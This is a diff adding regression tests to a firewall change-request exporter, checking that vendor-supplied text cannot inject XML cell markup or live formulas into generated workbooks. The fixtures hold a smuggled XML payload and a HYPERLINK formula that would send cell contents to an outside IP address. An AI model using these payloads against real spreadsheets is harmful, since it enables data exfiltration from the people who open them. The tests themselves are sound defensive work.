@@ -76,3 +76,63 @@ def test_a_cell_of_exactly_the_limit_is_written_whole(tmp_path: Path) -> None:
     assert code == 0, err
     header, row = load_workbook(workbook)["Flows"].iter_rows(values_only=True)
     assert dict(zip(header, row, strict=True))["purpose"] == purpose
+
+
+#: text that XlsxWriter's row-by-row mode took for a rich string it had built itself (it starts
+#: with <r> and ends with </r>) and wrote into the sheet's XML as it was: here a formula cell
+_MARKUP = (
+    '<r><t>x</t></r></is></c><c r="Z2"><f>HYPERLINK("http://203.0.113.9/","open")</f></c>'
+    '<c r="Z3" t="inlineStr"><is><r><t>y</t></r>'
+)
+
+
+def test_text_that_looks_like_cell_markup_is_written_as_text(tmp_path: Path) -> None:
+    # a vendor's purpose starting with <r> and ending with </r> went into the sheet unescaped:
+    # this one added a HYPERLINK formula to the change request, and one holding a bare '&'
+    # ("<r>A & B</r>") made the whole workbook unreadable
+    broken = "<r>A & B</r>"
+    deployment = examples.hostile_deployment(
+        tmp_path, purpose=_MARKUP, product=broken, deployment=broken, title=_MARKUP
+    )
+    workbook = tmp_path / "cr.xlsx"
+    code, _, err = run("matrix", str(deployment), "--format", "xlsx", "-o", str(workbook))
+    assert code == 0, err
+    book = load_workbook(workbook)
+    for sheet in ("Flows", "FW servers to data"):
+        header, row = book[sheet].iter_rows(values_only=True)
+        cells = dict(zip(header, row, strict=True))
+        assert (cells["purpose"], cells["justification"]) == (_MARKUP, _MARKUP)
+    cover = list(book["Change request"].iter_rows(values_only=True))
+    assert cover[0][0] == f"Firewall change request: {broken}"
+    assert (broken, "1.0", "", _MARKUP) in {row[:4] for row in cover}
+    formulas = [c.coordinate for page in book for line in page.iter_rows() for c in line
+                if c.data_type == "f"]  # fmt: skip
+    assert formulas == []
+
+
+def test_text_a_spreadsheet_would_read_as_a_formula_carries_the_quote_prefix(
+    tmp_path: Path,
+) -> None:
+    # the cell held the text "=HYPERLINK(...)" without Excel's own "'" marker (quotePrefix):
+    # shown as text, but a firewall engineer who edited the cell (F2, Enter) turned it into a
+    # live formula; the CSV gets a leading "'" for the same reason (OWASP, ASVS 1.2.10)
+    formula = '=HYPERLINK("http://203.0.113.9/collect?flow="&A2&"&from="&D2,"vendor details")'
+    assert len(formula) > 60  # wider than the purpose column: it wraps
+    deployment = examples.hostile_deployment(tmp_path, purpose=formula, product="@Hostile")
+    workbook = tmp_path / "cr.xlsx"
+    code, _, err = run("matrix", str(deployment), "--format", "xlsx", "-o", str(workbook))
+    assert code == 0, err
+    book = load_workbook(workbook)
+    header = [c.value for c in book["Flows"][1]]
+    purpose = book["Flows"].cell(2, header.index("purpose") + 1)
+    assert (purpose.value, purpose.data_type, purpose.quotePrefix) == (formula, "s", True)
+    # the column's wrapping stays with the cell's own format
+    assert purpose.alignment.wrap_text
+    justification = book["Flows"].cell(2, header.index("justification") + 1)
+    assert (justification.value, justification.quotePrefix) == (formula, True)
+    flow = book["Flows"].cell(2, header.index("flow") + 1)
+    assert not flow.quotePrefix
+    (product,) = [
+        line[0] for line in book["Change request"].iter_rows() if line[0].value == "@Hostile"
+    ]
+    assert product.quotePrefix
